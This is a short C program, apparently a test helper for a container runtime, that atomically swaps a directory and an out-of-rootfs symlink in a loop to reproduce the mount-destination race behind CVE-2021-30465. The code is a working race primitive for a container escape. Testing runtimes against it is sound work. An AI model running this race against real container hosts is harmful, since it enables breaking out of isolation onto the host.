/* swapper DIR A B SECONDS: swap the names A and B in DIR (renameat2
 * RENAME_EXCHANGE, atomic) as fast as possible for SECONDS: a rootfs
 * whose mount destination is a directory one instant and a symlink out of
 * the rootfs the next (the CVE-2021-30465 class of races), run on the host
 * while `create` resolves and mounts. Prints the number of swaps. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
    if (argc != 5) {
        fprintf(stderr, "usage: swapper DIR A B SECONDS\n");
        return 2;
    }
    int dir = open(argv[1], O_PATH | O_DIRECTORY);
    if (dir < 0) {
        perror(argv[1]);
        return 1;
    }
    time_t end = time(NULL) + atoi(argv[4]);
    long n = 0;
    while (time(NULL) < end) {
        for (int i = 0; i < 1000; i++)
            if (renameat2(dir, argv[2], dir, argv[3], RENAME_EXCHANGE) == 0)
                n++;
    }
    printf("%ld\n", n);
    return 0;
}
